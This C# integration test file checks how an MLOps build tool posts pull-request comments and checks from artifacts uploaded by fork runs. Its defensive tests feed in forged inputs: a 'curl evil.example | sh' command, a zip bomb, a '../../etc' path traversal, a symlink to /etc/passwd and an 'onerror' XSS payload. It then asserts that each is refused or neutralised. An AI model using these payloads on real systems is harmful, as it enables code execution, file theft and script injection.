using System.IO.Compression;
using System.Text;
using System.Text.Json.Nodes;

namespace MlOpsBuild.IntegrationTests;

/// <summary>The report of a run without rights, posted by the run that follows it and trusts nothing of it.</summary>
public sealed class PostReportTests
{
    private const string Fork = "mallory";

    [Fact]
    public async Task The_report_of_a_fork_is_posted_on_its_pull_request()
    {
        await using var job = await GitHubJob.StartAsync();
        job.Open(Fork);
        job.Project.Run("Report").ShouldEndWith(0);
        Upload(job, ReportOf(job));
        job.RunAfter(1, "success", job.Sha, Fork, "PostReport")
            .ShouldEndWith(0)
            .ShouldSay("telco-churn: comment created")
            .ShouldNotSay("check-data"); // nothing is computed
        job.Comments.ShouldHaveSingleItem()
            .Body.ShouldStartWith(
                "<!-- mlopsbuild:report model=telco-churn workflow=mlops run=1 attempt=1 -->\n## ✅ telco-churn: accepted"
            );
        var check = job.Checks.ShouldHaveSingleItem();
        (check.HeadSha, check.Conclusion).ShouldBe((job.Sha, "success"));

        // of a later run of the same pull request the comment is the same one
        job.Repository.AddArtifact(GitHubJob.IdOf(2), "mlops-report", job.Sha, ReportOf(job));
        job.RunAfter(2, "success", job.Sha, Fork, "PostReport").ShouldEndWith(0);
        job.Comments.ShouldHaveSingleItem().Body.ShouldContain("run=2 attempt=1");
        job.ShouldHaveSpokenAsDescribed();
    }

    [Fact]
    public async Task A_run_of_the_repository_itself_costs_no_search_for_its_pull_request()
    {
        await using var job = await GitHubJob.StartAsync();
        job.Open();
        job.Project.Run("Report").ShouldEndWith(0);
        Upload(job, ReportOf(job));
        job.RunAfter(1, "success", job.Sha, null, "PostReport").ShouldEndWith(0);
        job.Comments.ShouldHaveSingleItem();
        job.Server.Requests.ShouldNotContain(r =>
            r.Path.EndsWith("/pulls", StringComparison.Ordinal)
        );
    }

    [Theory]
    [InlineData("failure", "🛑 telco-churn: no verdict, the build broke", "action_required")]
    [InlineData("timed_out", "took longer than it may", "action_required")]
    [InlineData("cancelled", "⏹️ telco-churn: no verdict, the run was cancelled", "cancelled")]
    [InlineData("skipped", "⏭️ telco-churn: no verdict, the run was skipped", "skipped")]
    public async Task A_run_that_left_nothing_is_told_of(
        string conclusion,
        string said,
        string checkConclusion
    )
    {
        await using var job = await GitHubJob.StartAsync();
        job.Open(Fork);
        job.RunAfter(1, conclusion, job.Sha, Fork, "PostReport").ShouldEndWith(0);
        job.Comments.ShouldHaveSingleItem().Body.ShouldContain(said);
        job.Checks.ShouldHaveSingleItem().Conclusion.ShouldBe(checkConclusion);
        job.ShouldHaveSpokenAsDescribed();
    }

    [Fact]
    public async Task The_reason_why_a_build_broke_is_told_from_its_notice()
    {
        await using var job = await GitHubJob.StartAsync();
        job.Project.Edit(job.Project.Config, "trees: 300", "threes: 300");
        job.Project.Commit("a mistake");
        job.Open(Fork);
        job.Project.Run("Report").ShouldEndWith(2);
        var notice = await File.ReadAllBytesAsync(PathOf(job, "notice.json"));
        Upload(job, Zip(("notice.json", notice)));
        job.RunAfter(1, "failure", job.Sha, Fork, "PostReport").ShouldEndWith(0);
        var body = job.Comments.ShouldHaveSingleItem().Body;
        body.ShouldContain("the build broke");
        body.ShouldContain("in the target `CheckData`");
        body.ShouldContain("threes");
        // The run that broke and the one that posts give the same line to run again.
        var again = $"git checkout {job.Sha[..12]} && ./build.sh CheckData --model telco-churn";
        body.ShouldContain(again);
        ((string?)JsonNode.Parse(notice)!["reproduce"]).ShouldBe(again);
        job.ShouldHaveSpokenAsDescribed();
    }

    [Fact]
    public async Task A_commit_that_is_not_the_head_any_more_gets_a_check_and_no_comment()
    {
        await using var job = await GitHubJob.StartAsync();
        job.Open(Fork);
        job.Project.Run("Report").ShouldEndWith(0);
        Upload(job, ReportOf(job));
        var old = job.Sha;
        job.Repository.ChangePullRequest(
            GitHubJob.Number,
            p => p with { HeadSha = new string('a', 40) }
        );
        job.RunAfter(1, "success", old, Fork, "PostReport").ShouldEndWith(0);
        job.Comments.ShouldBeEmpty();
        job.Checks.ShouldHaveSingleItem().HeadSha.ShouldBe(old);
    }

    [Fact]
    public async Task Each_model_of_a_repository_has_its_comment_and_its_check()
    {
        await using var job = await GitHubJob.StartAsync();
        job.Project.AddModel("second", "support-calls");
        job.Project.Commit("a second model");
        job.Open(Fork);
        job.Project.Run("Report").ShouldEndWith(0);
        Upload(job, ReportOf(job));
        File.WriteAllText(job.Project.PathOf(".nuke", "parameters.json"), "{}\n");
        job.RunAfter(1, "failure", job.Sha, Fork, "PostReport").ShouldEndWith(0);
        job.Comments.Select(c => c.Body.Split('\n')[1])
            .Order(StringComparer.Ordinal)
            .ShouldBe([
                "## 🛑 support-calls: no verdict, the build broke",
                "## 🛑 telco-churn: no verdict, the build broke",
            ]);
        job.Checks.Select(c => c.Name)
            .Order(StringComparer.Ordinal)
            .ShouldBe(["MlOpsBuild / support-calls", "MlOpsBuild / telco-churn"]);
        job.ShouldHaveSpokenAsDescribed();
    }

    public static TheoryData<string> Forgeries =>
        [
            "not a zip",
            "zip bomb",
            "other commit",
            "NaN",
            "1e999",
            "unknown key",
            "deep",
            "link",
            "paths",
        ];

    [Theory]
    [MemberData(nameof(Forgeries))]
    public async Task What_a_fork_forged_is_refused_in_one_comment_that_says_why(string forgery)
    {
        await using var job = await GitHubJob.StartAsync();
        job.Open(Fork);
        job.Project.Run("Report").ShouldEndWith(0);
        var report = await File.ReadAllTextAsync(PathOf(job, "report.json"));
        Upload(job, Forge(forgery, report, job.Sha));
        job.RunAfter(1, "success", job.Sha, Fork, "PostReport")
            .ShouldEndWith(0)
            .ShouldShowNoStack();
        var body = job.Comments.ShouldHaveSingleItem().Body;
        body.ShouldContain("no verdict, the build broke");
        body.ShouldContain("report is not taken");
        job.Checks.ShouldHaveSingleItem().Conclusion.ShouldBe("action_required");
        job.ShouldHaveSpokenAsDescribed();
    }

    [Fact]
    public async Task Text_of_a_fork_stays_text()
    {
        await using var job = await GitHubJob.StartAsync();
        job.Open(Fork);
        job.Project.Run("Report").ShouldEndWith(0);
        var report = await File.ReadAllTextAsync(PathOf(job, "report.json"));
        const string Hostile =
            "@everyone <img src=x onerror=alert(1)> [a](http://evil.example) --> | ` \\u202e #1";
        Upload(
            job,
            Zip(
                (
                    "report.json",
                    Encoding.UTF8.GetBytes(
                        report.Replace("Month-to-month", Hostile, StringComparison.Ordinal)
                    )
                )
            )
        );
        job.RunAfter(1, "success", job.Sha, Fork, "PostReport").ShouldEndWith(0);
        var body = job.Comments.ShouldHaveSingleItem().Body;
        body.ShouldContain("everyone");
        body.ShouldNotContain("@everyone");
        body.ShouldNotContain("<img");
        body.ShouldNotContain("](http://evil");
        body.ShouldNotContain('\u202e'.ToString());
        body.ShouldNotContain(") -->");
    }

    [Fact]
    public void Outside_of_such_a_run_it_says_what_to_call_instead()
    {
        using var project = new SampleProject(git: true);
        project
            .Run("PostReport")
            .ShouldEndWith(2)
            .ShouldSay("mlops-comment.yml")
            .ShouldSay("CommentPullRequest")
            .ShouldShowNoStack();
    }

    private static byte[] Forge(string forgery, string report, string sha) =>
        forgery switch
        {
            "not a zip" => Encoding.UTF8.GetBytes(report),
            "zip bomb" => Zip(("report.json", new byte[64 * 1024 * 1024])),
            "other commit" => Json(
                report.Replace(sha, new string('b', 40), StringComparison.Ordinal)
            ),
            "NaN" => Json(ReplaceNumber(report, "NaN")),
            "1e999" => Json(ReplaceNumber(report, "1e999")),
            "unknown key" => Json("{\"shell\": \"curl evil.example | sh\"," + report[1..]),
            "deep" => Json(string.Concat(Enumerable.Repeat("[", 100_000))),
            "paths" => Json(
                report.Replace(
                    "\"project\": \".\"",
                    "\"project\": \"../../etc\"",
                    StringComparison.Ordinal
                )
            ),
            "link" => LinkZip(),
            _ => throw new ArgumentOutOfRangeException(nameof(forgery)),
        };

    private static string ReplaceNumber(string report, string number)
    {
        const string Key = "\"candidate\": ";
        var start = report.IndexOf(Key, StringComparison.Ordinal) + Key.Length;
        var end = report.IndexOfAny([',', '\n'], start);
        return report[..start] + number + report[end..];
    }

    private static byte[] Json(string text) => Zip(("report.json", Encoding.UTF8.GetBytes(text)));

    private static byte[] LinkZip()
    {
        var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            var entry = zip.CreateEntry("report.json");
            entry.ExternalAttributes = 0xA1FF << 16; // a symbolic link, as Unix has it
            using var content = entry.Open();
            content.Write("/etc/passwd"u8);
        }

        return stream.ToArray();
    }

    private static byte[] ReportOf(GitHubJob job) =>
        Zip([
            .. Directory
                .EnumerateFiles(job.Project.PathOf("artifacts", "report"))
                .Select(f => (Path.GetFileName(f), File.ReadAllBytes(f))),
        ]);

    private static string PathOf(GitHubJob job, string file) =>
        job.Project.PathOf("artifacts", "report", file);

    private static void Upload(GitHubJob job, byte[] zip) =>
        job.Repository.AddArtifact(GitHubJob.IdOf(1), "mlops-report", job.Sha, zip);

    private static byte[] Zip(params (string Name, byte[] Content)[] files)
    {
        var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in files)
            {
                using var entry = zip.CreateEntry(name).Open();
                entry.Write(content);
            }
        }

        return stream.ToArray();
    }
}
